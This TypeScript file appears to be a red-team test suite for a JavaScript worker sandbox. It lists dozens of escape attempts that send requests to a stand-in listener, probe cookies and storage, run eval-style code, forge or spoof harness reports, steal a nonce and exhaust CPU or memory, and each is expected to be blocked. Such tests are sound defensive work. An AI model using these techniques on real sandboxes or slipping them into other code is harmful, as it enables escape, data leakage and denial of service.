/** A way out of the sandbox. */
export interface Attack {
  readonly name: string;
  /** Defines `attack`, which gives 'blocked' when it fails; LISTENER and PAGE are addresses. */
  readonly code: string;
  /** How the one test must come out; 'pass' means that the attack gave 'blocked'. */
  readonly outcome?: string | readonly string[];
  /** Wanted of `attack()`; 'blocked' when absent. */
  readonly expect?: string;
}

/** `attack` that tries this and is blocked by an exception, or by a value that says so. */
const tries = (name: string, expression: string): Attack => ({
  name,
  code: `async function attack() {
    try { const got = await (${expression}); return got === undefined || got === 'blocked' ? 'blocked' : 'ESCAPED ' + String(got); }
    catch { return 'blocked'; }
  }`,
});
/** Settles with what an object's first event says. */
const event = (make: string, good: string, bad: string) =>
  `new Promise((resolve) => { const it = ${make}; it.${good} = () => resolve('reached'); it.${bad} = () => resolve('blocked'); })`;
const blob = (code: string) => `URL.createObjectURL(new Blob([${JSON.stringify(code)}], { type: 'text/javascript' }))`;
/** It must be ended, or found wanting: anything but a pass. */
const ended = (name: string, body: string, ...outcome: readonly string[]): Attack => ({
  name,
  code: `function attack() { ${body} }`,
  outcome,
});

const network: readonly Attack[] = [
  tries('fetch', `fetch(LISTENER)`),
  tries('fetch without CORS', `fetch(LISTENER, { mode: 'no-cors' })`),
  tries(
    'fetch that outlives its page',
    `fetch(LISTENER, { method: 'POST', body: 'x', keepalive: true, mode: 'no-cors' })`,
  ),
  tries('fetch from the page itself', `fetch(PAGE)`),
  tries('fetch of its own script', `fetch(location.href).then((it) => it.text())`),
  tries(
    'XMLHttpRequest',
    event(`Object.assign(new XMLHttpRequest(), {}), _ = (it.open('GET', LISTENER), it.send())`, 'onload', 'onerror'),
  ),
  tries(
    'synchronous XMLHttpRequest',
    `(() => { const it = new XMLHttpRequest(); it.open('GET', LISTENER, false); it.send(); return it.status; })()`,
  ),
  tries('WebSocket', event(`new WebSocket(LISTENER.replace('http', 'ws'))`, 'onopen', 'onerror')),
  tries('EventSource', event(`new EventSource(LISTENER)`, 'onopen', 'onerror')),
  tries('WebTransport', `new WebTransport(LISTENER.replace('http', 'https')).ready`),
  tries('sendBeacon', `navigator.sendBeacon(LISTENER, 'x')`),
  tries('RTCPeerConnection', `new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:9' }] })`),
  tries('FontFace', `new FontFace('x', 'url(' + LISTENER + ')').load()`),
  tries('importScripts from outside', `importScripts(LISTENER)`),
  tries('importScripts from the page', `importScripts(PAGE + 'service.js')`),
  tries('importScripts of a blob', `importScripts(${blob('globalThis.came = 1')}), globalThis.came`),
  tries('import() from outside', `import(LISTENER).then(() => 'came')`),
  tries('import() from the page', `import(PAGE + 'service.js').then(() => 'came')`),
  tries('import() of data', `import('data:text/javascript,export default 1').then(() => 'came')`),
  tries('import() of a blob', `import(${blob('export default 1')}).then(() => 'came')`),
  tries('a worker from outside', event(`new Worker(LISTENER)`, 'onmessage', 'onerror')),
  tries('a worker from the page', event(`new Worker(PAGE + 'service.js')`, 'onmessage', 'onerror')),
  tries('a worker of data', event(`new Worker('data:text/javascript,postMessage(1)')`, 'onmessage', 'onerror')),
  tries(
    'a worker of a worker that fetches',
    `new Promise((resolve) => { const it = new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(LISTENER) + ', { mode: "no-cors" }).then(() => postMessage("reached"), () => postMessage("blocked"))']))); it.onmessage = ({ data }) => resolve(data); it.onerror = () => resolve('blocked'); })`,
  ),
  tries('SharedWorker', event(`new SharedWorker(${blob('1')})`, 'onmessage', 'onerror')),
];

const possessions: readonly Attack[] = [
  tries('IndexedDB', event(`indexedDB.open('redraft')`, 'onsuccess', 'onerror')),
  tries('Cache Storage', `caches.open('redraft-files').then(() => 'opened')`),
  tries('private files', `navigator.storage.getDirectory().then(() => 'opened')`),
  tries('persistent storage', `navigator.storage.persist().then((it) => it || 'blocked')`),
  tries('locks of the page', `navigator.locks.request('redraft', () => 'held')`),
  tries('cookies', `cookieStore.getAll().then(() => 'read')`),
  tries('localStorage', `localStorage.length, 'read'`),
  tries('a service worker', `navigator.serviceWorker.register(PAGE + 'service.js').then(() => 'registered')`),
  tries('notifications', `Notification.requestPermission()`),
  tries('devices', `navigator.usb.getDevices().then((it) => it.length || 'blocked')`),
  tries('memory shared for timing', `new SharedArrayBuffer(8), 'shared'`),
  tries('isolation', `crossOriginIsolated || 'blocked'`),
  tries('the origin of the page', `origin === 'null' ? 'blocked' : origin`),
];

const page: readonly Attack[] = [
  tries('window', `window.document`),
  tries('document', `document.cookie`),
  tries('parent', `parent.location.href`),
  tries('top navigation', `top.location = LISTENER`),
  tries('opener', `opener.location`),
  tries('popups', `open(LISTENER)`),
  tries('alert', `alert('x'), 'shown'`),
  tries('its own address', `(location.href = LISTENER, location.href.startsWith('blob:') ? 'blocked' : 'moved')`),
  tries('a broadcast to the page', `(new BroadcastChannel('red-team').postMessage('reached'), 'blocked')`),
  tries('eval', `eval('1 + 1')`),
  tries('Function', `new Function('return 1')()`),
  tries('constructor of a constructor', `[].map.constructor('return globalThis')()`),
  tries('async constructor', `(async () => {}).constructor('return 1')()`),
  tries('generator constructor', `(function* () {}).constructor('yield 1')().next().value`),
  tries(
    'a timer of text',
    `new Promise((resolve) => { setTimeout('globalThis.came = 1'); setTimeout(() => resolve(globalThis.came), 50); })`,
  ),
];

const harness: readonly Attack[] = [
  {
    name: 'prototypes of everything',
    code: `for (const it of [Object, Array, String, Number, Promise, Function, Map, Set]) for (const name of Object.getOwnPropertyNames(it.prototype)) if (name !== 'constructor') try { it.prototype[name] = () => 'blocked'; } catch {}
      function attack() { return 'wrong'; }`,
    outcome: ['assertion', 'type', 'other', 'timeout'],
  },
  {
    name: 'JSON that lies',
    code: `JSON.stringify = () => '{"type":"test","test":0,"how":"returned","json":"\\\\"blocked\\\\""}'; JSON.parse = () => 'blocked'; function attack() { return 'wrong'; }`,
    outcome: 'assertion',
  },
  {
    name: 'toJSON that lies',
    code: `Object.prototype.toJSON = Array.prototype.toJSON = String.prototype.toJSON = () => 'blocked'; function attack() { return 'wrong'; }`,
    outcome: 'assertion',
  },
  {
    name: 'setters that catch reports',
    code: `for (const name of ['nonce', 'how', 'json', 'test', 'type']) Object.defineProperty(Object.prototype, name, { set() {}, get() { return 'returned'; }, configurable: true }); function attack() { return 'wrong'; }`,
    outcome: 'assertion',
  },
  {
    name: 'reports that are forged',
    code: `for (const nonce of ['', null, undefined, '0']) postMessage(JSON.stringify({ nonce, type: 'test', test: 0, how: 'returned', json: '"blocked"', console: '' })); function attack() { return 'wrong'; }`,
    outcome: 'assertion',
  },
  {
    name: 'the nonce, read from callers',
    code: `let found = ''; Error.prepareStackTrace = (_, sites) => sites.map((site) => String(site.getFunction?.() ?? '') + String(site.getThis?.() ?? '')).join();
      function attack() { found += new Error().stack; try { found += attack.caller; found += attack.arguments.callee.caller; } catch {} return /[0-9a-f]{32}/.test(found) ? 'ESCAPED ' + found : 'blocked'; }`,
  },
  {
    name: 'the nonce, caught in postMessage',
    code: `let found = ''; globalThis.postMessage = (it) => (found += it); self.__proto__.postMessage = (it) => (found += it); DedicatedWorkerGlobalScope.prototype.postMessage = (it) => (found += it);
      function attack() { return found ? 'ESCAPED' : 'blocked'; }`,
  },
  {
    name: 'the console, replaced',
    code: `globalThis.console = new Proxy({}, { get() { throw new Error('no'); } }); function attack() { return 'blocked'; }`,
  },
  {
    name: 'a value that answers differently each time',
    code: `let count = 0; function attack() { return new Proxy({}, { get: () => (count++ ? 'blocked' : 1), ownKeys: () => { throw new Error('no'); } }); }`,
    outcome: 'assertion',
  },
  {
    name: 'a promise with a then of its own',
    code: `function attack() { return { then(resolve) { for (;;) resolve('wrong'); } }; }`,
    outcome: 'timeout',
  },
  {
    name: 'messages to itself',
    code: `dispatchEvent(new MessageEvent('message', { data: 'x' })); onmessage = () => postMessage('blocked'); function attack() { return 'blocked'; }`,
  },
  {
    name: 'an end before the test',
    code: `close(); function attack() { return 'blocked'; }`,
    outcome: ['pass', 'timeout', 'other'],
  },
  { name: 'an exception that is nothing', code: `function attack() { throw null; }`, outcome: 'other' },
  {
    name: 'an exception that throws when it is read',
    code: `function attack() { throw { get name() { throw 1; }, get message() { throw 2; }, toString() { throw 3; } }; }`,
    outcome: 'other',
  },
];

const exhaustion: readonly Attack[] = [
  ended('a loop without end', `for (;;);`, 'timeout'),
  ended('promises without end', `const next = () => Promise.resolve().then(next); return next();`, 'timeout'),
  ended('a promise that never settles', `return new Promise(() => {});`, 'timeout'),
  ended('recursion without end', `return attack() + 1;`, 'range'),
  ended('a pattern that takes for ever', `return /^(a+)+$/.test('a'.repeat(60) + '!');`, 'timeout'),
  ended('text that doubles', `let text = 'x'; for (;;) text += text;`, 'memory'),
  ended('buffers without end', `const all = []; for (;;) all.push(new ArrayBuffer(2 ** 31));`, 'memory', 'range'),
  ended('lists without end', `const all = []; for (;;) all.push(all.length + 0.5);`, 'range', 'memory', 'timeout'),
  ended('a flood of messages', `for (;;) postMessage('x'.repeat(10000));`, 'other', 'timeout'),
  ended('a message of 400 MB', `postMessage('x'.repeat(4e8)); for (;;);`, 'other', 'timeout', 'memory'),
  ended('messages that are no text', `for (;;) postMessage({ lost: 'timeout' });`, 'other', 'timeout'),
  ended(
    'a flood of errors',
    `setInterval(() => { throw new Error('x'.repeat(10000)); }); return new Promise(() => {});`,
    'other',
    'timeout',
  ),
  ended(
    'workers without end',
    `const code = 'for(;;)new Worker(location.href)'; for (let at = 0; at < 40; at++) new Worker(URL.createObjectURL(new Blob([code]))); for (;;);`,
    'timeout',
    'memory',
  ),
  ended('a result without end', `const all = []; all.push(all, all); return all;`, 'assertion', 'range'),
  {
    name: 'a flood of lines',
    code: `function attack() { for (let at = 0; at < 1e5; at++) console.log('x'.repeat(100)); return 'blocked'; }`,
  },
];

export const attacks: readonly Attack[] = [...network, ...possessions, ...page, ...harness, ...exhaustion];
